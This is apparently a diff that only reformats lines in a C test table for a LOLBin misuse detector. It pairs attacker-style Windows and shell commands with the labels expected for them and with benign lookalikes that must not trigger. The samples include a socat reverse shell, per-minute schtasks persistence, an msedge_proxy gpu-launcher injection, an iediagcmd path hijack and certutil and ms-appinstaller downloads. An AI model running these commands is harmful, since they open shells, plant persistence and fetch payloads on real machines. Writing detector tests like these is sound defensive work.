@@ -126,8 +126,8 @@ static const struct {
      "LOLBIN_REMOTE_EXEC", "", true},
     {"start ms-appinstaller://?source=https://example.invalid/a.msixbundle", "LOLBIN_REMOTE_EXEC",
      "", true},
-    {"schtasks /create /sc minute /mo 1 /tn upd /tr \"c:\\users\\x\\a.exe\"", "LOLBIN_PERSIST",
-     "", true},
+    {"schtasks /create /sc minute /mo 1 /tn upd /tr \"c:\\users\\x\\a.exe\"", "LOLBIN_PERSIST", "",
+     true},
     {"schtasks /create /s host2 /tn t /tr c:\\x\\a.exe /sc daily", "LOLBIN_PERSIST", "", true},
     {"schtasks /create /tn Backup /tr C:\\Tools\\backup.cmd /sc daily /st 02:00", "",
      "LOLBIN_PERSIST", false},
@@ -135,14 +135,14 @@ static const struct {
     {"bash.exe -c \"socat tcp-connect:10.0.0.9:66 exec:sh,pty,stderr\"", "LOLBIN_REMOTE_EXEC", "",
      true},
     {"bash -c \"make -j4 && ./configure --prefix=/usr\"", "", "LOLBIN_REMOTE_EXEC", false},
-    {"set windir=c:\\users\\x& cd \"C:\\Program Files\\Internet Explorer\\\" & iediagcmd.exe /out:a.cab",
+    {"set windir=c:\\users\\x& cd \"C:\\Program Files\\Internet Explorer\\\" & iediagcmd.exe "
+     "/out:a.cab",
      "LOLBIN_PROXY_EXEC", "", true},
     {"set PATH=%PATH%;C:\\Tools\r\nset JAVA_HOME=C:\\jdk", "", "LOLBIN_PROXY_EXEC", false},
     {"\"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge_proxy.exe\" "
      "--disable-gpu-sandbox --gpu-launcher=\"cmd /c calc &&\"",
      "LOLBIN_PROXY_EXEC", "", true},
-    {"findstr /V /L xyz \\\\host\\share\\a.exe > c:\\users\\x\\a.exe", "LOLBIN_DOWNLOAD", "",
-     true},
+    {"findstr /V /L xyz \\\\host\\share\\a.exe > c:\\users\\x\\a.exe", "LOLBIN_DOWNLOAD", "", true},
     {"findstr /i error \\\\logsrv\\logs\\app.log > errors.txt", "", "LOLBIN_DOWNLOAD", false},
     /* comments, prose, other languages' words */
     {"rem certutil -urlcache -f http://example.invalid/a.exe a.exe\r\n", "", "LOLBIN_DOWNLOAD",
